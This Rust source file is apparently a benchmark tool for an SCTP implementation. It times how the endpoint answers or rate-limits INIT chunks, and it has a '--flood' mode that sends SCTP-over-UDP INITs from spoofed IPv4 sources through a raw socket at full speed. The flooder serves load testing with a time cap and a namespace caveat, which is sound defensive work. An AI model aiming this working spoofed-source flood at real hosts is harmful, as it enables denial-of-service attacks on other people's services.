//! The attacker's side of `cargo xtask bench init-flood`, and the cost of
//! answering one INIT without the network.
//!
//! - `--flood --target IP:PORT --seconds S`: sends SCTP-over-UDP INITs
//!   (RFC 6951) to `IP:PORT` from spoofed sources as fast as one core can:
//!   a raw IPv4 socket (`IPPROTO_RAW`, so the IP header is ours) and
//!   `sendmmsg` of pre-built datagrams. Each is IPv4 + UDP + an SCTP INIT
//!   encoded by the core (`sctp::chunk::Packet::encode`, CRC32c included);
//!   only the IPv4 source address and UDP source port change between
//!   datagrams (the CRC32c covers neither, and the UDP checksum is zero, which
//!   IPv4 allows), walking 10.128.0.0/9. Prints one JSON line with the count
//!   and rate. Needs CAP_NET_RAW; run it only inside a namespace of its own
//!   (the benchmark does).
//! - `--handle N`: no network: N INITs from distinct sources through
//!   `sctp::Endpoint::handle` (decode, cookie HMAC, INIT ACK encode and
//!   CRC32c) with the INIT ACK rate limit off, timed; then N more with the
//!   limit spent (each dropped after decoding); prints ns per INIT of each.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use bytes::{Bytes, BytesMut};
use sctp::chunk::{Chunk, Init, Packet};
use sctp::{DatagramEvent, Endpoint, Limits};

/// Datagrams per `sendmmsg`.
const BATCH: usize = 64;
/// The spoofed sources: 10.128.0.0/9.
const SOURCE_BASE: u32 = u32::from_be_bytes([10, 128, 0, 0]);
const SOURCE_MASK: u32 = (1 << 23) - 1;
const IPV4_HEADER: usize = 20;
const UDP_HEADER: usize = 8;
/// Hard cap on a flood, whatever `--seconds` says.
const MAX_FLOOD: Duration = Duration::from_secs(120);

/// The SCTP INIT every datagram carries (a client's usual offer).
fn init_packet(src_port: u16, dst_port: u16) -> Result<Bytes> {
    let packet = Packet {
        src_port,
        dst_port,
        vtag: 0,
        chunks: vec![Chunk::Init(Init {
            initiate_tag: 0x5eed_1e55,
            a_rwnd: 1 << 20,
            outbound_streams: 32,
            inbound_streams: 32,
            initial_tsn: 1,
            cookie: None,
            extensions: vec![sctp::chunk::kind::I_DATA],
            cookie_preservative: None,
            unrecognized: Vec::new(),
        })],
    };
    let mut out = BytesMut::new();
    packet.encode(&mut out).context("encoding the INIT")?;
    Ok(out.freeze())
}

fn main() -> Result<()> {
    let mut args = std::env::args().skip(1);
    let (mut target, mut seconds, mut handle, mut flood) = (None, 30.0f64, None, false);
    while let Some(flag) = args.next() {
        let mut value = || args.next().with_context(|| format!("{flag} needs a value"));
        match flag.as_str() {
            "--flood" => flood = true,
            "--target" => target = Some(value()?.parse::<SocketAddrV4>()?),
            "--seconds" => seconds = value()?.parse()?,
            "--handle" => handle = Some(value()?.parse::<usize>()?),
            other => bail!("unknown flag {other}"),
        }
    }
    if let Some(n) = handle {
        return handle_bench(n.max(1));
    }
    if !flood {
        bail!("give --flood --target IP:PORT [--seconds S], or --handle N");
    }
    let target = target.context("--flood needs --target IP:PORT")?;
    let limit = Duration::from_secs_f64(seconds.max(0.0)).min(MAX_FLOOD);
    send_flood(target, limit)
}

/// `--handle N`.
fn handle_bench(n: usize) -> Result<()> {
    let now = Instant::now();
    let mut endpoint = Endpoint::new(sctp::Config::default(), 9899, true, [7; 32], now)
        .map_err(|e| anyhow::anyhow!("{e:?}"))?;
    // The INIT ACK rate limit off: the cost of answering each.
    endpoint.set_limits(Limits {
        init_acks_per_second: u32::MAX,
        ..Limits::default()
    });
    let datagram = init_packet(40_000, 9899)?;
    let remote = |i: usize| {
        let ip = SOURCE_BASE | (i as u32 & SOURCE_MASK);
        SocketAddr::from((Ipv4Addr::from(ip), 1024 + (i % 60_000) as u16))
    };
    // Warm-up: caches, the allocator.
    for i in 0..n.min(10_000) {
        let _ = endpoint.handle(now, remote(i), datagram.clone());
    }
    let started = Instant::now();
    let (answered, bytes) = answer_inits(&mut endpoint, now, n, &datagram, remote);
    let took = started.elapsed().as_secs_f64();
    if answered != n {
        bail!("{answered} of {n} INITs answered");
    }
    // The rate limit spent: the cost of dropping each (decode, the bucket).
    endpoint.set_limits(Limits {
        init_acks_per_second: 1,
        ..Limits::default()
    });
    let _ = endpoint.handle(now, remote(0), datagram.clone());
    let started = Instant::now();
    if drop_inits(&mut endpoint, now, n, &datagram, remote) != 0 {
        bail!("an INIT beyond the rate was answered");
    }
    let dropped = started.elapsed().as_secs_f64();
    println!(
        "{{\"inits\":{n},\"ns_per_init\":{:.1},\"inits_per_s\":{:.0},\"ns_per_dropped_init\":{:.1},\"init_bytes\":{},\"init_ack_bytes\":{},\"associations_kept\":{}}}",
        took * 1e9 / n as f64,
        n as f64 / took,
        dropped * 1e9 / n as f64,
        datagram.len(),
        bytes / n,
        endpoint.associations()
    );
    Ok(())
}

/// The measured loop of `--handle`: `n` INITs from distinct sources, each
/// answered; returns how many were, and the INIT ACKs' bytes. Not inlined,
/// so that `cargo xtask bench init-flood --callgrind` counts exactly it
/// (`--toggle-collect`).
#[inline(never)]
fn answer_inits(
    endpoint: &mut Endpoint,
    now: Instant,
    n: usize,
    datagram: &Bytes,
    remote: impl Fn(usize) -> SocketAddr,
) -> (usize, usize) {
    let (mut answered, mut bytes) = (0, 0);
    for i in 0..n {
        if let Some(DatagramEvent::Response(t)) = endpoint.handle(now, remote(i), datagram.clone())
        {
            answered += 1;
            bytes += t.contents.len();
        }
    }
    (answered, bytes)
}

/// The other measured loop: `n` INITs past the INIT ACK rate limit; returns
/// how many were answered anyway (none should be). Not inlined, as above.
#[inline(never)]
fn drop_inits(
    endpoint: &mut Endpoint,
    now: Instant,
    n: usize,
    datagram: &Bytes,
    remote: impl Fn(usize) -> SocketAddr,
) -> usize {
    (0..n)
        .filter(|&i| endpoint.handle(now, remote(i), datagram.clone()).is_some())
        .count()
}

/// `--flood`.
fn send_flood(target: SocketAddrV4, limit: Duration) -> Result<()> {
    let sctp = init_packet(0, target.port())?;
    let len = IPV4_HEADER + UDP_HEADER + sctp.len();
    // One buffer per datagram of a batch; only the source fields change.
    let mut frames: Vec<Vec<u8>> = (0..BATCH)
        .map(|_| frame(&sctp, *target.ip(), target.port()))
        .collect();
    let socket = RawSocket::open()?;
    let started = Instant::now();
    let (mut sent, mut errors, mut next_source) = (0u64, 0u64, 0u32);
    while started.elapsed() < limit {
        for f in &mut frames {
            next_source = next_source.wrapping_add(1);
            let ip = SOURCE_BASE | (next_source & SOURCE_MASK);
            f[12..16].copy_from_slice(&ip.to_be_bytes());
            let port = 1024 + (next_source % 60_000) as u16;
            f[IPV4_HEADER..IPV4_HEADER + 2].copy_from_slice(&port.to_be_bytes());
        }
        match socket.send_batch(&frames, target) {
            Ok(n) => sent += n as u64,
            Err(_) => errors += 1,
        }
    }
    let took = started.elapsed().as_secs_f64();
    println!(
        "{{\"sent\":{sent},\"seconds\":{took:.2},\"per_s\":{:.0},\"datagram_bytes\":{len},\"send_errors\":{errors}}}",
        sent as f64 / took
    );
    Ok(())
}

/// IPv4 + UDP + `sctp` to `dst`: addresses and checksums the kernel fills
/// (IPv4 header checksum, and the identification when zero); UDP checksum
/// zero (none, RFC 768).
fn frame(sctp: &[u8], dst: Ipv4Addr, port: u16) -> Vec<u8> {
    let total = IPV4_HEADER + UDP_HEADER + sctp.len();
    let mut f = Vec::with_capacity(total);
    f.extend_from_slice(&[0x45, 0]);
    f.extend_from_slice(&(total as u16).to_be_bytes());
    f.extend_from_slice(&[0, 0, 0x40, 0]); // id 0, don't fragment
    f.extend_from_slice(&[64, 17, 0, 0]); // TTL, UDP, checksum (kernel's)
    f.extend_from_slice(&[0, 0, 0, 0]); // source, set per datagram
    f.extend_from_slice(&dst.octets());
    f.extend_from_slice(&[0, 0]); // source port, set per datagram
    f.extend_from_slice(&port.to_be_bytes());
    f.extend_from_slice(&((UDP_HEADER + sctp.len()) as u16).to_be_bytes());
    f.extend_from_slice(&[0, 0]);
    f.extend_from_slice(sctp);
    f
}

/// A raw IPv4 socket whose datagrams carry their own IP header.
struct RawSocket(i32);

impl RawSocket {
    fn open() -> Result<Self> {
        // SAFETY: socket(2) takes no pointers.
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
        if fd < 0 {
            return Err(std::io::Error::last_os_error())
                .context("socket(AF_INET, SOCK_RAW, IPPROTO_RAW) (needs CAP_NET_RAW)");
        }
        Ok(Self(fd))
    }

    /// One `sendmmsg` of `frames` to `target`; how many left.
    fn send_batch(&self, frames: &[Vec<u8>], target: SocketAddrV4) -> std::io::Result<usize> {
        let mut addr = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from_ne_bytes(target.ip().octets()),
            },
            sin_zero: [0; 8],
        };
        let mut iovecs: Vec<libc::iovec> = frames
            .iter()
            .map(|f| libc::iovec {
                iov_base: f.as_ptr() as *mut libc::c_void,
                iov_len: f.len(),
            })
            .collect();
        let addr_ptr: *mut libc::sockaddr_in = &mut addr;
        let mut messages: Vec<libc::mmsghdr> = iovecs
            .iter_mut()
            .map(|iov| {
                // SAFETY: mmsghdr is plain data; all-zero is a valid value.
                let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
                m.msg_hdr.msg_name = addr_ptr.cast();
                m.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as u32;
                m.msg_hdr.msg_iov = iov;
                m.msg_hdr.msg_iovlen = 1;
                m
            })
            .collect();
        // SAFETY: every header points at `addr`, and at one iovec over a
        // frame of `frames`; all outlive the call, and the kernel only reads
        // them (it writes each header's msg_len).
        let n = unsafe { libc::sendmmsg(self.0, messages.as_mut_ptr(), messages.len() as u32, 0) };
        if n < 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(n as usize)
    }
}

impl Drop for RawSocket {
    fn drop(&mut self) {
        // SAFETY: the descriptor is ours and closed once.
        unsafe { libc::close(self.0) };
    }
}
